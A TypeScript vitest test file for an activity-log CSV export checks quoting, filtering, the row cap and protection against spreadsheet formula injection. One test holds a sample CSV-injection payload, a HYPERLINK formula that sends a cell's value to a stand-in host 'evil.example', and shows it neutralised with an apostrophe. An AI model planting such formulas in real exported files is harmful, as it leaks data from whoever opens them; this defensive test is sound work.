import { parse } from "csv-parse/sync";
import { beforeEach, expect, test } from "vitest";
import { type ActivityFilter, emptyFilter } from "#app/domain/activity/activity.ts";
import { activityCsv } from "#app/domain/activity/activity-log.server.ts";
import { csvCell } from "#app/domain/core/csv-cells.ts";
import { db } from "#db/client.server.ts";
import { activityLogs } from "#db/schema.ts";
import { log, logMany, temporaryDatabase } from "#tests/support/database.ts";
import { addMember } from "#tests/support/people.ts";

/** The CSV file of the activity log. */

temporaryDatabase();
const ben = addMember("Ben Abbott", { email: "ben@kiln.example" });
beforeEach(() => void db().delete(activityLogs).run());

const fileOf = async (filter: Partial<ActivityFilter> = {}) => {
  const parts: string[] = [];
  for await (const part of activityCsv({ ...emptyFilter, ...filter })) parts.push(part);
  return parts.join("");
};

test("quotes, commas, and line breaks survive, and each field has a column", async () => {
  const description = 'Ben "the kiln" Abbott,\r\nsigned in';
  log({
    userId: ben.id,
    description,
    details: '{"a":"b, \\"c\\""}',
    resourceId: -3,
    createdAt: new Date("2026-01-05T20:30:00Z"),
  });
  const text = await fileOf();
  expect(text.startsWith("\ufeffId,") || text.startsWith('\ufeff"Id",')).toBe(true);
  expect(parse(text, { bom: true, columns: true })).toEqual([
    {
      Id: expect.any(String),
      "Time (UTC)": "2026-01-05T20:30:00.000Z",
      "Time (Eastern Time)": "2026-01-05 15:30:00",
      Result: "successful",
      Description: description,
      "Error message": "",
      Resource: "other",
      "Resource id": "-3",
      Action: "test.act",
      "User id": String(ben.id),
      Name: "Ben Abbott",
      Email: "ben@kiln.example",
      "IP address": "",
      Browser: "",
      Details: '{"a":"b, \\"c\\""}',
    },
  ]);
});

test("text that a spreadsheet program would run as a formula starts with an apostrophe", () => {
  const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
  expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
  for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]) expect(csvCell(text).slice(0, 2), text).toBe(`"'`);
  expect([csvCell("Anna = Ben"), csvCell(-3), csvCell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
});

test("follows the filter, newest first, and contains at most 10,000 entries", async () => {
  logMany(10_100, (n) => ({ resource: n % 100 === 0 ? "auth" : "other", description: `n ${n}` }));
  const lines = (text: string) => parse(text, { bom: true, columns: true }) as { Description: string }[];
  const rows = lines(await fileOf());
  expect([rows.length, rows[0]?.Description, rows.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
  expect(lines(await fileOf({ resource: "auth" }))).toHaveLength(101);
});
